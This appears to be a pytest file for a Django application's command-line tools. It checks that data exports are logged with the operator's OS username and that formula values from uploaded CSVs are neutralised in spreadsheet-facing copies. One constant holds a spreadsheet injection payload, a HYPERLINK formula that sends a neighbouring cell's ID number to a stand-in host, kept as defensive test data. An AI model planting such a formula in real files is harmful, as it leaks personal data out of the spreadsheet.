"""Command-line exports name their operator in the audit trail, and carry no live formula from an upload."""

from __future__ import annotations

import csv
import getpass
from datetime import date

import pytest

from jiuzhu.app.accounts.models import AuditEvent
from jiuzhu.cli.main import main
from jiuzhu.engine.identity.idcard import make_id

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://x.example/?"&F2,"详情")'


def _rows(path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_exports_are_audited_with_the_os_user_and_neutralised(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("JIUZHU_HOME", str(tmp_path / "home"))
    good = make_id("350425", date(1980, 3, 4), 11)
    src = tmp_path / "失业.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["姓名", "身份证号", "失业登记日期"], [ATTACK, good, "2025-09-01"],
                                  ["乙", "@SUM(A1)", "2025-09-02"]])
    assert main(["ingest", "--department", "人社局", "--as-of", "2025-09-30", str(src)]) == 0
    # The machine contract stays byte-exact (docs/intake.md); the copy for people is formula-safe.
    assert main(["batches", "--rejections", "--out", str(tmp_path / "raw.csv")]) == 0
    assert "@SUM(A1)" in [r[4] for r in _rows(tmp_path / "raw.csv")[1:]]
    rejections = tmp_path / "rej.csv"
    assert main(["batches", "--rejections", "--excel", "--out", str(rejections)]) == 0
    with rejections.open(encoding="utf-8-sig", newline="") as fh:
        values = [r[4] for r in list(csv.reader(fh))[1:]]
    assert "'@SUM(A1)" in values and "@SUM(A1)" not in values

    assert main(["screen", "--as-of", "2025-09-30"]) == 0
    persons = tmp_path / "persons.csv"
    assert main(["persons", "export", "--out", str(persons)]) == 0
    names = [r[4] for r in _rows(persons)[1:]]
    assert any(n.startswith("'=HYPERLINK(") for n in names) and not any(n.startswith("=") for n in names)
    capsys.readouterr()

    who = f"cli:{getpass.getuser()}"
    events = {e.object_type: e for e in AuditEvent.objects.filter(action="export").order_by("seq")}
    assert events["batches.rejections"].username == who
    assert events["batches.rejections"].detail == {"file": "rej.csv", "rows": len(values), "batch": "",
                                                   "excel": True}
    assert events["persons.export"].username == who
    assert events["persons.export"].detail["file"] == "persons.csv"
